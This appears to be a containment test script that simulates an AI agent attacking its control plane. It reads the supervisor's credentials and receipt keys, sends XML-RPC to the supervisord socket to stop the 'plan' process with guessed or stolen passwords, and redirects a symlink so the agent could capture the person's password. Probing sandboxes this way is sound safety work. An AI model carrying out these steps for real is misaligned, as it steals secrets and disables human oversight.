"""Class 8: what an agent could do to the control plane: read the supervisor's credentials and config and
every receipt key, then ask the supervisor's socket to stop the plan loop, with no password and with any
password it found.

usage: supervisor_client.py WORKSPACE [LINK]   (prints one line per attempt: READ/DENIED path, SUPERVISOR said ...)
LINK: the short link through which a deep workspace's socket is reached; the agent tries to point it at its own
folder, where a socket of its own would collect the password the person's `banach` sends.
"""
import json
import os
import socket
import sys
from pathlib import Path

workspace = Path(sys.argv[1])
supervisor = workspace / "state" / "supervisor"
found: list[str] = []
for path in [supervisor / "credentials", supervisor / "supervisord.conf",
             *(workspace / "state" / "keys" / f"{role}.key" for role in ("spec", "plan", "build"))]:
    try:
        text = path.read_bytes()
        print(f"READ {path}")
        if path.name == "credentials":
            found.append(json.loads(text)["password"])
    except OSError as exc:
        print(f"DENIED {path}: {exc.strerror}")


def stop_plan(password: str | None) -> str:
    import base64

    body = ('<?xml version="1.0"?><methodCall><methodName>supervisor.stopProcess</methodName>'
            '<params><param><value><string>plan</string></value></param></params></methodCall>')
    auth = f"Authorization: Basic {base64.b64encode(f'banach:{password}'.encode()).decode()}\r\n" if password else ""
    client = socket.socket(socket.AF_UNIX)
    try:
        here = os.getcwd()
        os.chdir(supervisor)  # a relative address reaches the socket however deep the workspace is
        try:
            client.connect("supervisor.sock")
        finally:
            os.chdir(here)
        client.sendall(f"POST /RPC2 HTTP/1.0\r\n{auth}Content-Type: text/xml\r\nContent-Length: {len(body)}\r\n\r\n{body}"
                       .encode())
        return client.recv(200).decode(errors="replace").splitlines()[0]
    except OSError as exc:
        return f"socket refused: {exc.strerror}"
    finally:
        client.close()


for password in [None, "banach", *found]:
    print(f"SUPERVISOR said ({'no password' if password is None else 'a password'}): {stop_plan(password)}")

if len(sys.argv) > 2:
    link = Path(sys.argv[2])
    planted = link.with_name(link.name + ".planted")
    try:
        os.symlink(os.getcwd(), planted)
        os.replace(planted, link)
        print(f"REDIRECTED {link}")
    except OSError as exc:
        print(f"DENIED redirect {link}: {exc.strerror}")
